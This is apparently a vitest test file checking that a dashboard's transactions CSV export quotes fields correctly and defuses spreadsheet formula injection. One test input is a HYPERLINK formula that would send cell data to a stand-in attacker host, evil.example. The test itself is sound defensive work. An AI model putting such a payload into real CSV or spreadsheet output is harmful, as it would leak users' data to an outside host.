import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, transactionsCsv } from '#infra/dashboard/app/format.ts';

// The dashboard's CSV export of transactions (pure code of the dashboard's app).
const row = (fields: Record<string, unknown>) => ({
  reference: 'inv-1',
  created_at: '2026-11-23T10:00:00.000Z',
  type: 'credit',
  category: 'virtual_account',
  status: 'success',
  amount: 250000,
  fee: 0,
  currency: 'NGN',
  balance_after: 250000,
  narration: null,
  counterparty: { account_name: 'ADA OBI', account_number: '0123456789', bank_code: '058' },
  ...fields,
});
const fieldsOf = (csv: string) => csv.split('\r\n')[1]?.split(',') ?? [];
const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

describe('the transactions CSV', () => {
  it('quotes commas, quotes and line breaks (RFC 4180), with CRLF line ends and a header row', () => {
    const csv = transactionsCsv([row({ narration: 'rent, "May"\nand June' })]);
    expect(csv.startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(csv).toContain(',"rent, ""May""\nand June",');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it("defuses text a spreadsheet would run as a formula (a payer's name, a narration, a reference)", () => {
    const csv = transactionsCsv([
      row({
        reference: '-2+3',
        narration: '@SUM(1+1)',
        counterparty: { account_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
      }),
    ]);
    expect(csv).toContain(`'@SUM(1+1)`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(fieldsOf(csv)[column('reference')]).toBe(`'-2+3`);
    expect(fieldsOf(transactionsCsv([row({ narration: '+1' })]))[column('narration')]).toBe(`'+1`);
    expect(transactionsCsv([row({ narration: '\t1' })])).toContain(`,"'\t1",`);
    // Split on `;` or a tab, as spreadsheets of many locales split CSV, no cell starts a formula.
    const split = transactionsCsv([
      row({ counterparty: { account_name: 'ADA;=1+1' }, narration: 'x\t=2+2' }),
    ]);
    expect(split).toContain(',"ADA;=1+1",');
    expect(split).toContain(',"x\t=2+2",');
    for (const line of split.split('\r\n').slice(1, -1)) {
      const cells = line.replace(/"(?:[^"]|"")*"/g, 'quoted').split(/[;,\t]/);
      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    }
    expect(transactionsCsv([row({ narration: '\r1' })])).toContain(`,"'\r1",`);
  });

  it('leaves numbers and ordinary text as they are', () => {
    const fields = fieldsOf(transactionsCsv([row({ narration: 'Invoice 42' })]));
    expect(fields[column('amount')]).toBe('250000');
    expect(fields[column('narration')]).toBe('Invoice 42');
    expect(fields[column('counterparty_account_name')]).toBe('ADA OBI');
  });
});
